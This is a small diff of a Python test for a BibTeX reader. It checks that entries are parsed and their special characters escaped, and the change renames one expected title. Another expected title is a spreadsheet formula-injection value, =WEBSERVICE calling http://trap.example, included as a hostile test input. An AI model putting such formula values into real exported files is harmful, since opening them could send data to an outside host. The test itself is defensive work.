@@ -20,7 +20,7 @@ def test_bibtex_is_read_and_its_signs_are_escaped(budget: ArticleIndex) -> None:
     entries = {entry["title"]: entry for entry in library.entries}
     assert entries.keys() == {
         r'=WEBSERVICE("http://trap.example","Budget \& \textbraceleft{}taxes\textbraceright{} at 5\% of C\_1 \#2")',
-        "Untitled article",
+        "A note about a budget.",
     }
     entry = next(entry for entry in library.entries if entry.entry_type == "article")
     assert entry["author"] == "Ida Brandt and Jon Aas and {Courier staff}"
